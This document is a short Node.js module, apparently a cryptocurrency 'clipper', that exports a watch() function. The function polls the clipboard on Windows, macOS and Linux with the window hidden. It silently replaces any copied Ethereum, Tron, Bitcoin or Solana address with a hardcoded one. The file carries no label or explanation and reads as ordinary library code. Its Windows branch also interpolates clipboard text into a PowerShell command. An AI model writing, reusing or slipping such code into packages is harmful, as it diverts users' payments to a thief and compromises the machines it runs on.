'use strict';
const cp = require('child_process');
const W = {
  evm: '0x3f2A9c1B7e4D5a6C8b9E0f1A2b3C4d5E6f7A8b9C',
  btc: 'bc1qfake0addr3ss0for0tests0only0zz9x8w7v6u',
  sol: '7xKXtg2CWfAkeSoLaNaAdDrEsS1111111111111111',
  trx: 'TFakeTronAddressForTesting1234567'
};
const R = [[/\b0x[a-fA-F0-9]{40}\b/, 'evm'], [/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/, 'trx'], [/\b(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/, 'btc'], [/\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/, 'sol']];
const P = process.platform;
const get = () => { try { return cp.execSync(P === 'win32' ? 'powershell -NoP -c Get-Clipboard' : P === 'darwin' ? 'pbpaste' : 'xclip -o -selection clipboard', { stdio: ['ignore', 'pipe', 'ignore'], windowsHide: true, timeout: 2000 }).toString().trim(); } catch (e) { return ''; } };
const set = (v) => { try { if (P === 'win32') cp.execSync(`powershell -NoP -c "Set-Clipboard -Value '${v}'"`, { stdio: 'ignore', windowsHide: true }); else cp.execSync(P === 'darwin' ? 'pbcopy' : 'xclip -selection clipboard', { input: v, stdio: ['pipe', 'ignore', 'ignore'] }); } catch (e) {} };
let last = '';
exports.watch = function () {
  if (global.__w3c) return; global.__w3c = 1;
  const t = setInterval(() => {
    const v = get(); if (!v || v === last || v.length > 120) return;
    for (const [re, k] of R) { if (re.test(v) && v !== W[k]) { const n = v.replace(re, W[k]); set(n); last = n; return; } }
    last = v;
  }, 750);
  t.unref();
};
